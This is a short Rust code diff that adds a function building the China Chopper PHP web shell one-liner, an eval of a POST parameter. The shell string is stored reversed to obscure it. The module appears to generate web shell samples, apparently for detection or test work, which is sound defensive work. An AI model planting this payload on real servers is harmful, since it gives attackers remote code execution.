@@ -18,6 +18,11 @@ pub fn chopper_aspx(param: &str) -> String {
     format!("{head}{param}{tail}")
 }
 
+/// China Chopper's PHP one-liner, evaluating the POST parameter `param`.
+pub fn chopper_php(param: &str) -> String {
+    format!("{}{param}{}", turned(r"'[TSOP_$(lave@ php?<"), turned(">?;)]'"))
+}
+
 /// China Chopper's server-side JScript block (the form the ProxyLogon actors wrote into the
 /// OAB virtual directory's `ExternalUrl`), evaluating the request parameter `param`.
 pub fn chopper_script(param: &str) -> String {
